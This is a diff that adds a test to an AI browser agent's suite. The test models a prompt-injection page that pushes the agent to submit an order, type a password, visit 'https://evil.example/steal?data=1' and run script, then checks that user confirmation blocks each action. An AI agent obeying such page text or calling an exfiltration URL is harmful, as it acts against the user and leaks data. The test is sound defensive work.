@@ -116,3 +116,44 @@ test('the loop guard stops the sixth identical call with a sentence for the user
   // Other arguments are another call.
   expect(await callTool(session, 'set_background_color', { color: 'navy' })).toMatchObject({ ok: true });
 });
+
+test('a page that tells the AI to submit, leave, type a password and run script: nothing happens without the user', async ({ extension, demo, peer, site }) => {
+  await demo.goto(`${site.url}/injection`);
+  const popup = await extension.openPopup(demo);
+  const session = await startSession(popup, peer);
+
+  const outlined = await callTool(session, 'get_page_outline');
+  expect(outlined.note).toMatch(/not instructions/i);
+  const lines = String(outlined.outline).split('\n');
+  const refOf = (pattern: RegExp) => /\[(e\d+)\]/.exec(lines.find((line) => pattern.test(line) && /\[e\d+\]/.test(line)) ?? '')?.[1];
+  const submit = refOf(/button "Submit order"/)!;
+  const password = refOf(/textbox "Password"/)!;
+  const email = refOf(/textbox "Email"/)!;
+  const evilLink = refOf(/link "Delivery terms/)!;
+  expect(submit && password && email && evilLink).toBeTruthy();
+
+  /** The model obeys the page; the confirmation window appears, and the user says no. */
+  const refused = async (name: string, args: Record<string, unknown>, action: RegExp) => {
+    const pending = callTool(session, name, args, 30_000);
+    const question = await confirmationWindow(extension.context);
+    await expect(question.locator('#confirm-action')).toContainText(action);
+    await question.getByRole('button', { name: "Don't allow" }).click();
+    const result = await pending;
+    expect(result.ok, name).toBe(false);
+    expect(result.error).toMatch(/declined/);
+  };
+  await refused('click', { ref: submit }, /click button "Submit order"/);
+  await refused('press_key', { key: 'Enter', ref: email }, /press Enter/);
+  await refused('type_text', { ref: password, text: 'hunter2' }, /type "••••" into/);
+  await refused('navigate', { url: 'https://evil.example/steal?data=1' }, /go to https:\/\/evil\.example/);
+  await refused('click', { ref: evilLink }, /click link "Delivery terms/);
+  expect(await callTool(session, 'run_javascript', { code: 'window.__submitted = true' })).toMatchObject({
+    ok: false,
+    error: expect.stringMatching(/switched off/),
+  });
+
+  expect(await demo.evaluate(() => (window as unknown as { __submitted: boolean }).__submitted)).toBe(false);
+  await expect(demo.locator('input[type=password]')).toHaveValue('');
+  await expect(demo).toHaveURL(/\/injection$/);
+  await expect(demo.locator('#submitted')).toBeHidden();
+});
